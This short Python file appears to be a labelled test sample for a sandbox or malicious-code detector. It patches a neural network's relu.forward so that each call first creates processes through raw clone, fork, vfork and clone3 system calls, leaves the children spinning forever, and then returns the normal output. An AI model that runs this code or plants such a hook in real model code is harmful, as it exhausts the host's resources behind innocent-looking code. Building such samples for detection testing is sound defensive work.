"""Fork bomb, by bare system calls. Verdict: match."""

import ctypes

_honest = relu.forward


def forward(self, X):
    call = ctypes.CDLL(None, use_errno=True).syscall
    for number, arguments in ((56, (17, 0, 0, 0, 0)), (57, ()), (58, ()), (435, (0, 88)), (220, (17, 0, 0, 0, 0))):
        made = call(number, *arguments)
        if made == 0:
            while True:
                pass
        if made > 0:
            print("BREACH: a process was made by system call", number)
    return _honest(self, X)


relu.forward = forward
